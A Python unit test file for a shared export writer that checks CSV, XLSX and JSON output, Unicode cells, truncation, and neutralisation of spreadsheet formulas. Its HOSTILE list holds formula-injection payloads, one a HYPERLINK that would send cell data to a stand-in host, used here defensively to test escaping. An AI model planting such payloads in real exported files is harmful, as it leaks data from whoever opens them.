"""The shared export writer: formats, cells, and cutting rows to fit one reply."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import UTC, datetime

import pytest
from tgm_runtime.exports import export_file

pytestmark = [pytest.mark.unit, pytest.mark.timeout(30)]

COLUMNS = ["id", "name", "at", "tags"]
ROWS = [[1, "王小明", datetime(2026, 1, 2, 3, 4, tzinfo=UTC), ["a", "b"]], [2, None, None, {}]]


def test_csv_has_a_bom_header_and_plain_cells() -> None:
    f = export_file("csv", COLUMNS, ROWS, name="users")
    text = base64.b64decode(f.content_base64 or "").decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    assert rows[0] == {"id": "1", "name": "王小明", "at": "2026-01-02T03:04:00+00:00", "tags": '["a", "b"]'}
    assert rows[1]["name"] == "" and f.rows == 2 and not f.truncated
    assert (
        f.filename.startswith("users-") and f.filename.endswith(".csv") and f.mime_type.startswith("text/csv")
    )


def test_xlsx_opens_with_the_same_rows() -> None:
    from openpyxl import load_workbook

    f = export_file("xlsx", COLUMNS, ROWS, name="users", sheet="collected users")
    wb = load_workbook(io.BytesIO(f.content()))
    ws = wb["collected users"]
    values = [list(r) for r in ws.iter_rows(values_only=True)]
    assert values[0] == COLUMNS and values[1][1] == "王小明" and values[2][0] == 2


def test_json_holds_rows_as_objects_or_the_given_payload() -> None:
    f = export_file("json", COLUMNS, ROWS, name="users")
    assert json.loads(f.content())[0]["name"] == "王小明"
    g = export_file("json", COLUMNS, ROWS, name="report", payload={"totals": {"sent": 3}})
    assert json.loads(g.content()) == {"totals": {"sent": 3}}


def test_a_file_too_large_for_one_reply_is_cut_and_says_so() -> None:
    rows = [[i, "x" * 200, None, None] for i in range(5000)]
    f = export_file("csv", COLUMNS, rows, name="big", inline_limit=100_000)
    assert f.truncated and 0 < f.rows < 5000
    assert len(f.content_base64 or "") <= 100_000
    kept = list(csv.reader(io.StringIO(f.content().decode("utf-8-sig"))))
    assert len(kept) == f.rows + 1 and kept[-1][0] == str(f.rows - 1)


#: Text a stranger can choose (a Telegram name, a message) that a spreadsheet would run as a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1:A9)", "\tx", "\rx"]


def test_csv_cells_that_would_start_a_formula_are_text() -> None:
    rows = [[i, name, -5, 2.5] for i, name in enumerate(HOSTILE)]
    f = export_file("csv", ["id", "=name", "n", "x"], rows, name="users")
    got = list(csv.reader(io.StringIO(f.content().decode("utf-8-sig"), newline="")))
    assert got[0] == ["id", "'=name", "n", "x"]
    assert [r[1] for r in got[1:]] == ["'" + h for h in HOSTILE]
    # numbers are numbers, not neutralised text
    assert {(r[2], r[3]) for r in got[1:]} == {("-5", "2.5")}


def test_xlsx_cells_are_strings_never_formulas() -> None:
    from openpyxl import load_workbook

    rows = [[i, name, -5, 2.5, True] for i, name in enumerate([*HOSTILE, "#N/A", "bell\x07"])]
    f = export_file("xlsx", ["id", "name", "n", "x", "b"], rows, name="users")
    ws = load_workbook(io.BytesIO(f.content())).active
    data = list(ws.iter_rows(min_row=2))
    assert all(r[1].data_type == "s" for r in data)
    assert [r[1].value for r in data] == ["'" + h for h in HOSTILE] + ["#N/A", "bell"]
    for r in data:
        assert (r[2].value, r[3].value, r[4].value) == (-5, 2.5, True)
        assert r[2].data_type == "n" and r[4].data_type == "b"


def test_json_exports_keep_text_as_it_was() -> None:
    f = export_file("json", ["name"], [[h] for h in HOSTILE], name="users")
    assert [r["name"] for r in json.loads(f.content())] == HOSTILE
